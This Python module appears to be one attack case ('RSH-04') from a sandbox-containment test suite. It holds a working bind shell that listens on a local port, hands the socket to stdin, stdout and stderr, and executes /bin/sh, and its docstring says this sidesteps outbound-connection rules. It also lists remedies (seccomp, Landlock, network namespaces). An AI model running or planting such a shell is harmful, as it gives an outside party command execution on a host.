# SPDX-License-Identifier: MIT
"""Goal:  somebody outside gives the orders.
Means: a bind shell: listen, and let the attacker come. Rules for outgoing connections do not
       apply: none is made.
"""

import os
import socket

from attack import attempting, deadline, denied


def run(brief):
    deadline(4)  # survives execve: the shell ends with it
    attempting()
    try:
        door = socket.create_server(("127.0.0.1", brief.bind))
        door.settimeout(3)  # an alarm does not end pid 1 of a namespace
        attacker, _ = door.accept()
        for stream in (0, 1, 2):
            os.dup2(attacker.fileno(), stream)
        os.execv("/bin/sh", ["sh"])
    except OSError as why:
        return denied("bind, accept, sh", why)


ATTACK = {
    "effect": "somebody outside gives the orders",
    "means": "bind, listen, accept, then a shell on the connection",
    "oracle": "shell",
    "id": "RSH-04",
    "attack_id": "T1059.004, T1571, CWE-668",
    "remedy": "seccomp without socket(2); Landlock without binding; a network namespace",
    "run": run,
}
